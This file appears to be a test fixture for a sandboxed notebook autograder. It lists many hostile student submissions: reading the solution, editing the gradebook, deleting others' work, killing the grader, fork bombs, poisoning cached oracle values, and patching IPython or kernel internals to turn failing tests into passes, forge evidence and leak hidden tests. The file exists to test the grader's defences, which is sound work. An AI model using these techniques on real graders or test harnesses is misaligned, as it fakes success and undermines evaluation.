"""Hostile submissions: answer cells that attack the grader instead of answering.

Each is the ``square`` answer of the tiny assignment (tests/tiny_assignment.py): attack code,
then a wrong ``square`` for the case where the attack changed nothing. The placeholders are
filled in by the test with what a real attacker could know or guess: ``{course}`` (the course
folder), ``{secret}`` (a file outside it), ``{exchange}``, ``{port}`` (a server the test runs
on 127.0.0.1), ``{grader_pid}``, ``{marker}`` (a word to find a leftover process by) and
``{oracle_values}`` (the grader's folder of the judge's oracle values).

``scores`` are the marks on (double, square, halve) that the attacker must get: never more
than a wrong answer. ``says`` is what the student's feedback must show of what was blocked.
"""

import dataclasses


@dataclasses.dataclass(frozen=True)
class Hostile:
    name: str
    reason: str
    code: str
    says: str  # words of the feedback page (None: nothing to show, checked otherwise)
    scores: tuple = (1, 0, 1)

    def answer(self, **facts):
        return self.code.format(**facts) + "\ndef square(x):\n    return 2 * x\n"


HOSTILE = [
    Hostile("exec-solution", "reads the instructor's solution from source/ and runs it", """
import json, os
path = os.path.join({course!r}, "source", "00_tiny", "tiny.ipynb")
for cell in json.load(open(path))["cells"]:
    if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "square":
        exec("".join(cell["source"]).replace("### BEGIN SOLUTION", "")
             .replace("### END SOLUTION", ""))
raise SystemExit("the solution ran")
""", "No such file or directory"),
    Hostile("gradebook", "writes full marks into the SQLite gradebook", """
import os, sqlite3
db = sqlite3.connect("file:" + os.path.join({course!r}, "gradebook.db") + "?mode=rw", uri=True)
db.execute("UPDATE grade SET manual_score = max_score")
db.commit()
""", "unable to open database file"),
    Hostile("rewrite-others", "replaces another student's submission and graded notebook", """
import os
for folder in ("submitted", "autograded"):
    path = os.path.join({course!r}, folder, "aaa-model", "00_tiny", "tiny.ipynb")
    with open(path, "w") as handle:
        handle.write("{{}}")
""", "No such file or directory"),
    Hostile("delete-others", "deletes every submission and the exchange", """
import shutil
shutil.rmtree({exchange!r})
shutil.rmtree({course!r} + "/submitted")
""", "No such file or directory"),
    Hostile("kill-grader", "kills the grading process by its pid", """
import os, signal
os.kill({grader_pid}, signal.SIGKILL)
""", "No such process"),
    Hostile("kill-group", "kills its parent and its whole process group", """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError as error:
    print("parent:", error)
os.killpg(0, signal.SIGKILL)
""", "KernelDied", (1, 0, 0)),
    Hostile("network", "connects to a server on the grading machine's loopback", """
import socket
socket.create_connection(("127.0.0.1", {port}), timeout=5).sendall(b"stolen")
""", "Connection refused"),
    Hostile("fork-bomb", "forks until something stops it (at most 2,000 processes)", """
import os, time
children = []
try:
    for _ in range(2000):
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
finally:
    print(f"forked {{len(children)}} processes")
""", "Resource temporarily unavailable"),
    Hostile("big-file", "writes a 300 MiB file", """
with open("big.bin", "wb") as handle:
    for _ in range(300):
        handle.write(bytes(2**20))
""", "File too large"),
    Hostile("fill-tmp", "fills /tmp with files under the size limit", """
for k in range(8):
    with open(f"/tmp/filler{{k}}.bin", "wb") as handle:
        for _ in range(200):
            handle.write(bytes(2**20))
""", "No space left on device"),
    Hostile("leave-process",
            "starts a process in a session of its own that outlives the kernel", """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", {marker!r}],
                 start_new_session=True)
print("started a background process")
""", None),
    Hostile("read-outside", "reads a file of the grading machine outside the course folder", """
print(open({secret!r}).read())
""", "No such file or directory"),
    Hostile("list-programs", "lists the grader's folder of the model solution's compiled "
            "programs, to read them", """
import os
print(os.listdir(os.environ["ADCOURSE_COMPILED_PROGRAMS"]))
""", "Permission denied"),
    Hostile("poison-programs", "writes a program into the grader's folder of compiled programs, "
            "for the kernels of other students to load", """
import os
with open(os.path.join(os.environ["ADCOURSE_COMPILED_PROGRAMS"], "jit_square-0-cache"),
          "wb") as handle:
    handle.write(b"a program that returns 9")
""", "Read-only file system"),
    Hostile("read-oracle-values", "lists the grader's folder of the judge's oracle values, to "
            "return the expected values", """
import os
print(os.listdir({oracle_values!r}))
""", "No such file or directory"),
    Hostile("poison-oracle-values", "writes an expected value into the grader's folder of the "
            "judge's oracle values, for the judge to compare other students' answers with", """
import os
os.makedirs(os.path.join({oracle_values!r}, "00_tiny--planted"), exist_ok=True)
with open(os.path.join({oracle_values!r}, "00_tiny--planted", "planted.json"), "w") as handle:
    handle.write('{{"int": 6}}')
""", None),
]

# In-process attacks on how a test cell's score is decided. nbgrader 0.9's grader, inside the
# student's own kernel, gives a test cell full marks when its outputs hold no error and no
# stderr and the kernel's execute_reply is not an error (Execute.on_cell_executed adds the
# reply's error to the outputs); it reads a first execute_result as a partial grade. Each attack
# below is code in the `square` answer cell, run in the process that runs the test cells after
# it. "Targeted" attacks touch only the later cells that mention `square(` (its test cell,
# `assert square(3) == 9` or `adcheck.check_square(square)`), so double and halve keep their
# marks. "Blanket" attacks that stop every later test cell's checks from running (or erase what
# they report) score halve 0: a sound grader credits a test only on evidence that its checks ran
# and passed, and it has none for halve. No attacker's feedback may show the hidden tests
# (HIDDEN_TEST_TEXT, or a test cell's source in base64): tests/test_hostile_leaks.py.

HIDDEN_TEST_TEXT = "-1.5"  # only the hidden tests hold it (the case x = -1.5)
FAILURE = "square(3) should be 9"  # the visible test's message for the wrong square


def _wrapped_send(session, body):
    """Code that binds ``session`` (the kernel's session, as an expression) and replaces its
    ``send`` by a wrapper that runs ``body`` (its lines, indented by 4: they may return early or
    rewrite ``content``), then sends what is left."""
    head = f"""
session = {session}
real_send = session.send
def send(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
"""
    tail = """    return real_send(stream, msg_or_type, content, parent, *args, **kwargs)
session.send = send
"""
    return head + body.lstrip("\n") + tail


# The lines of such a wrapper that put, in an execute_reply's place, one that says ok.
_OK_REPLY = """
        content = {{"status": "ok", "execution_count": content.get("execution_count"),
                   "user_expressions": {{}}, "payload": []}}
"""


HOSTILE += [
    # -- IPython's input and AST transformations: later cells are rewritten before they run
    Hostile("input-transformer-pass",
            "an input transformer turns the later test cell of square into `pass`", """
def neuter(lines):
    return ["pass\\n"] if any("square(" in line for line in lines) else lines
get_ipython().input_transformers_post.append(neuter)
""", None),
    Hostile("input-transformer-strip",
            "a line transform of input_transformer_manager deletes every later `assert` and "
            "`check_` line (halve's test then checks nothing: 0)", """
def strip_checks(lines):
    return [line for line in lines
            if not line.lstrip().startswith(("assert", "adcheck.check_", "check_"))]
get_ipython().input_transformer_manager.line_transforms.append(strip_checks)
""", None, (1, 0, 0)),
    Hostile("ast-drop-asserts",
            "an AST transformer replaces every later assert and check call by `pass` (halve's "
            "test then checks nothing: 0)", """
import ast
class DropChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        if "check_" in ast.unparse(node):
            return ast.copy_location(ast.Pass(), node)
        return node
get_ipython().ast_transformers.append(DropChecks())
""", None, (1, 0, 0)),
    Hostile("ast-swallow",
            "an AST transformer wraps every later cell in `try: ... except BaseException: pass`",
            """
import ast
class Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                    body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[],
                             finalbody=[])]
        return ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(Swallow())
""", None),
    Hostile("transform-cell",
            "replaces the shell's transform_cell: the test cell of square becomes `pass`", """
shell = get_ipython()
real_transform = shell.transform_cell
shell.transform_cell = lambda cell: "pass\\n" if "square(" in cell else real_transform(cell)
""", None),
    Hostile("builtins-compile",
            "replaces builtins.compile, which IPython's compiler calls before any test cell "
            "starts: the test of square compiles to `pass`", """
import builtins
real_compile = builtins.compile
def compile(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kwargs):
    if isinstance(source, str) and "square(" in source:
        source = "pass"
    return real_compile(source, filename, mode, flags, dont_inherit, optimize, **kwargs)
builtins.compile = compile
""", None),
    Hostile("optimize-asserts",
            "builtins.compile with optimize=1 for every later cell: Python leaves out every "
            "assert of a test cell (the checks' own code, compiled before, keeps its tests: "
            "halve's still runs)", """
import builtins
real_compile = builtins.compile
def compile(source, filename, mode, flags=0, dont_inherit=False, optimize=-1, **kwargs):
    return real_compile(source, filename, mode, flags, dont_inherit, 1, **kwargs)
builtins.compile = compile
""", None),
    # -- the shell's methods
    Hostile("run-cell-skip",
            "replaces the shell instance's run_cell: the test cell of square runs as `pass`", """
shell = get_ipython()
real_run_cell = shell.run_cell
def run_cell(raw_cell, *args, **kwargs):
    return real_run_cell("pass" if "square(" in raw_cell else raw_cell, *args, **kwargs)
shell.run_cell = run_cell
""", None),
    Hostile("run-cell-class",
            "replaces run_cell on the shell's class (out of reach of a guard that resets the "
            "instance's attributes): the test cell of square runs as `pass`", """
shell_class = type(get_ipython())
real_run_cell = shell_class.run_cell
def run_cell(self, raw_cell, *args, **kwargs):
    return real_run_cell(self, "pass" if "square(" in raw_cell else raw_cell,
                         *args, **kwargs)
shell_class.run_cell = run_cell
""", None),
    Hostile("run-cell-async",
            "should_run_async says yes to every cell, so ipykernel calls run_cell_async, which "
            "it replaces: the test cell of square runs as `pass`", """
shell = get_ipython()
real_run_cell_async = shell.run_cell_async
async def run_cell_async(raw_cell, *args, **kwargs):
    if "square(" in raw_cell:
        raw_cell, kwargs["transformed_cell"] = "pass", "pass\\n"
    return await real_run_cell_async(raw_cell, *args, **kwargs)
shell.run_cell_async = run_cell_async
shell.should_run_async = lambda raw_cell, **kwargs: True
""", None),
    Hostile("run-ast-nodes",
            "replaces run_ast_nodes: the statements that mention square are dropped", """
import ast
shell = get_ipython()
real_run_ast_nodes = shell.run_ast_nodes
async def run_ast_nodes(nodelist, *args, **kwargs):
    kept = [node for node in nodelist if "square(" not in ast.unparse(node)]
    return await real_run_ast_nodes(kept, *args, **kwargs)
shell.run_ast_nodes = run_ast_nodes
""", None),
    Hostile("run-code-swallow",
            "replaces run_code: every later statement runs, and any exception is dropped", """
shell = get_ipython()
async def run_code(code_obj, result=None, *, async_=False):
    try:
        if async_:
            await eval(code_obj, shell.user_global_ns, shell.user_ns)
        else:
            exec(code_obj, shell.user_global_ns, shell.user_ns)
    except BaseException:
        pass
    return False
shell.run_code = run_code
""", None),
    # -- ipykernel: the reply and the published messages
    Hostile("kernel-do-execute",
            "replaces the kernel's do_execute: the test cell of square is not run, the reply "
            "says ok", """
kernel = get_ipython().kernel
real_do_execute = kernel.do_execute
async def do_execute(code, silent, *args, **kwargs):
    if "square(" in code:
        return {{"status": "ok", "execution_count": kernel.execution_count,
                "user_expressions": {{}}, "payload": []}}
    return await real_do_execute(code, silent, *args, **kwargs)
kernel.do_execute = do_execute
""", None),
    Hostile("kernel-execute-request",
            "replaces shell_handlers['execute_request']: the test cell of square gets an ok "
            "reply and is never run", """
kernel = get_ipython().kernel
real_handler = kernel.shell_handlers["execute_request"]
async def execute_request(stream, ident, parent):
    if "square(" not in parent["content"]["code"]:
        return await real_handler(stream, ident, parent)
    kernel.execution_count += 1
    kernel.session.send(stream, "execute_reply",
                        {{"status": "ok", "execution_count": kernel.execution_count,
                         "user_expressions": {{}}, "payload": []}}, parent, ident=ident)
kernel.shell_handlers["execute_request"] = execute_request
""", None),
    Hostile("session-send",
            "wraps kernel.session.send: no 'error' message is published, and every "
            "execute_reply says ok", _wrapped_send("get_ipython().kernel.session", """
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type["header"]["msg_type"]
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict):""" + _OK_REPLY), None),
    Hostile("iopub-drop-errors",
            "wraps the IOPub thread's send_multipart: every signed 'error' message is dropped "
            "before it leaves the kernel", """
import json
iopub = get_ipython().kernel.iopub_thread
real_send_multipart = iopub.send_multipart
def send_multipart(parts, *args, **kwargs):
    try:
        frames = [bytes(part) for part in parts]
        header = json.loads(frames[frames.index(b"<IDS|MSG>") + 2])
        if header["msg_type"] == "error":
            return None
    except Exception:
        pass
    return real_send_multipart(parts, *args, **kwargs)
iopub.send_multipart = send_multipart
""", None),
    Hostile("reply-ok-only",
            "rewrites the execute_reply of every failed cell to status ok, but leaves the "
            "published error alone", _wrapped_send("get_ipython().kernel.session", """
    if msg_or_type == "execute_reply" and isinstance(content, dict):""" + _OK_REPLY), FAILURE),
    Hostile("clear-output",
            "a post_execute callback clears the cell's outputs, the error included, after "
            "every later cell (the checks' evidence of halve too: 0)", """
from IPython.display import clear_output
get_ipython().events.register("post_execute", clear_output)
""", None, (1, 0, 0)),
    Hostile("post-run-cell-success",
            "a silent showtraceback, and a post_run_cell callback that clears the result's "
            "error, so that the reply says ok", """
shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
def succeed(result):
    result.error_in_exec = None
shell.events.register("post_run_cell", succeed)
""", None),
    Hostile("clear-output-success",
            "the error is published, then erased by clear_output (post_execute), and a "
            "post_run_cell callback clears the result's error so that the reply says ok (the "
            "checks' evidence of halve is erased too: 0)", """
from IPython.display import clear_output
def succeed(result):
    result.error_in_exec = None
get_ipython().events.register("post_execute", clear_output)
get_ipython().events.register("post_run_cell", succeed)
""", None, (1, 0, 0)),
    # -- how an error is shown
    Hostile("showtraceback",
            "replaces the shell instance's showtraceback by a function that shows nothing", """
get_ipython().showtraceback = lambda *args, **kwargs: None
""", None),
    Hostile("showtraceback-class",
            "replaces showtraceback on IPython's InteractiveShell class (out of reach of a guard "
            "that resets the instance's attributes) by a function that shows nothing", """
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda self, *args, **kwargs: None
""", None),
    Hostile("custom-exc",
            "set_custom_exc: a handler for every exception that shows nothing", """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: [])
""", None),
    Hostile("excepthook",
            "sys.excepthook that shows nothing (IPython does not call it for a cell's error)",
            """
import sys
sys.excepthook = lambda *args: None
""", FAILURE),
    # -- hooks that put a patch back after the grader undid it
    Hostile("audit-hook-repatch",
            "an audit hook of its own (it runs after the grader's) puts back, on every `exec` "
            "event (each later cell's start), a silent showtraceback and a post_run_cell "
            "callback that marks the cell successful", """
import sys
shell = get_ipython()
def quiet(*args, **kwargs):
    return None
def succeed(result):
    result.error_in_exec = None
def repatch(event, args):
    if event != "exec":
        return
    if vars(shell).get("showtraceback") is not quiet:
        shell.showtraceback = quiet
    if succeed not in shell.events.callbacks["post_run_cell"]:
        shell.events.register("post_run_cell", succeed)
sys.addaudithook(repatch)
""", None),
    Hostile("gc-callback-repatch",
            "a gc.callbacks entry puts back, at every garbage collection, a silent error handler "
            "and a post_run_cell callback that marks the cell successful", """
import gc
shell = get_ipython()
def succeed(result):
    result.error_in_exec = None
def repatch(phase, info):
    if phase == "stop":
        shell.set_custom_exc((BaseException,), lambda *args, **kwargs: [])
        if succeed not in shell.events.callbacks["post_run_cell"]:
            shell.events.register("post_run_cell", succeed)
gc.callbacks.append(repatch)
gc.collect()
""", None),
    Hostile("weakref-repatch",
            "a weakref finalizer that renews itself puts back, whenever the cyclic collector "
            "runs, a silent showtraceback and a post_run_cell callback that marks the cell "
            "successful", """
import gc, weakref
shell = get_ipython()
class Seed:
    pass
def succeed(result):
    result.error_in_exec = None
def replant():
    shell.showtraceback = lambda *args, **kwargs: None
    if succeed not in shell.events.callbacks["post_run_cell"]:
        shell.events.register("post_run_cell", succeed)
    seed = Seed()
    seed.cycle = seed  # freed by the cyclic collector only, at some later moment
    weakref.finalize(seed, replant)
replant()
gc.collect()
""", None),
    Hostile("pre-run-cell-repatch",
            "a pre_run_cell callback, before every later cell, replaces the adcheck module's "
            "checks by no-ops, installs a silent error handler and a post_run_cell callback "
            "that marks the cell successful (halve's no-op check reports nothing: 0, unless a "
            "guard puts the checks back first)", """
import sys
shell = get_ipython()
def succeed(result):
    result.error_in_exec = None
def repatch(info):
    checks = sys.modules.get("adcheck")
    for name in dir(checks) if checks else ():
        if name.startswith("check_"):
            setattr(checks, name, lambda *args, **kwargs: None)
    shell.set_custom_exc((AssertionError,), lambda *args, **kwargs: [])
    if succeed not in shell.events.callbacks["post_run_cell"]:
        shell.events.register("post_run_cell", succeed)
shell.events.register("pre_run_cell", repatch)
""", None, (1, 0, 0)),
    Hostile("eq-liar",
            "a post_run_cell callback rebinds square, after its own cell, to a function whose "
            "result (still 2 * x) says it equals anything", """
class Anything(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
def liar(x):
    return Anything(2 * x)
def rebind(result):
    get_ipython().user_ns["square"] = liar
get_ipython().events.register("post_run_cell", rebind)
""", None),
    # -- reading the hidden tests
    Hostile("leak-pre-run-cell",
            "a pre_run_cell callback prints the source of every later cell, hidden tests "
            "included, into that cell's output", """
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
""", FAILURE),
    Hostile("leak-later-cell",
            "keeps the source of every later cell and prints it from the next answer cell "
            "(its output is shown in the feedback)", """
seen = []
def remember(info):
    seen.append(info.raw_cell)
def reveal(result):
    if "assert" not in result.info.raw_cell:
        print("\\n\\n".join(seen))
get_ipython().events.register("pre_run_cell", remember)
get_ipython().events.register("post_run_cell", reveal)
""", FAILURE),
    Hostile("leak-error-message",
            "a pre_run_cell callback raises an error whose message is the test cell's source "
            "(the feedback keeps an error's last line)", """
def leak(info):
    if "square(" in info.raw_cell:
        raise ValueError(info.raw_cell)
get_ipython().events.register("pre_run_cell", leak)
""", None),
    Hostile("leak-base64",
            "prints every later cell's source in base64, which no search for the hidden text "
            "finds", """
import base64
get_ipython().events.register(
    "pre_run_cell", lambda info: print(base64.b64encode(info.raw_cell.encode()).decode()))
""", FAILURE),
    Hostile("leak-hidden-inputs",
            "wraps square (still wrong, but right on the visible case x = 3) to record every "
            "argument the checks pass it, and prints them from the next answer cell", """
seen = []
def wrap(result):
    shell = get_ipython()
    wrong = shell.user_ns.get("square")
    if callable(wrong) and not hasattr(wrong, "seen"):
        def square(x):
            seen.append(repr(x))
            return 9 if x == 3 else wrong(x)
        square.seen = seen
        shell.user_ns["square"] = square
    if "def halve" in result.info.raw_cell:
        print("square was called with", ", ".join(seen))
get_ipython().events.register("post_run_cell", wrap)
""", None),
    # -- forged outputs
    Hostile("forge-execute-result",
            "publishes an execute_result `1.0` in the test cell of square before it runs: "
            "nbgrader reads the first execute_result as the cell's partial grade", """
shell = get_ipython()
def forge(info):
    if "square(" in info.raw_cell:
        hook = shell.displayhook
        hook.session.send(hook.pub_socket, "execute_result",
                          {{"data": {{"text/plain": "1.0"}}, "metadata": {{}},
                           "execution_count": shell.execution_count}}, hook.parent_header)
shell.events.register("pre_run_cell", forge)
""", None),
    Hostile("forge-evidence",
            "displays a made-up evidence bundle (application/vnd.adcourse.evidence+json) "
            "claiming that the checks of square passed, and a text saying so", """
from IPython.display import display
def forge(info):
    if "square(" in info.raw_cell:
        display({{"application/vnd.adcourse.evidence+json": {{
                     "exercise": "square", "cell": "square_tests", "passed": True,
                     "checks": 2, "failed": 0, "failures": []}},
                 "text/plain": "square: all checks passed"}}, raw=True)
get_ipython().events.register("pre_run_cell", forge)
""", None),
    Hostile("forge-evidence-hide-error",
            "forges passing evidence for square, rewrites any real evidence bundle to say "
            "passed, and drops the error message and the failed reply", """
from IPython.display import display
EVIDENCE = "application/vnd.adcourse.evidence+json"
shell = get_ipython()""" + _wrapped_send("shell.kernel.session", """
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type["header"]["msg_type"]
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict):
        content = dict(content, status="ok", user_expressions={{}}, payload=[])
    data = content.get("data") if isinstance(content, dict) else None
    if isinstance(data, dict) and isinstance(data.get(EVIDENCE), dict):
        claim = dict(data[EVIDENCE], passed=True, failed=0, failures=[])
        content = dict(content, data=dict(data, **{{EVIDENCE: claim}}))
""") + """def forge(info):
    if "square(" in info.raw_cell:
        display({{EVIDENCE: {{"exercise": "square", "cell": "square_tests", "passed": True,
                             "checks": 2, "failed": 0, "failures": []}}}}, raw=True)
shell.events.register("pre_run_cell", forge)
""", None),
]
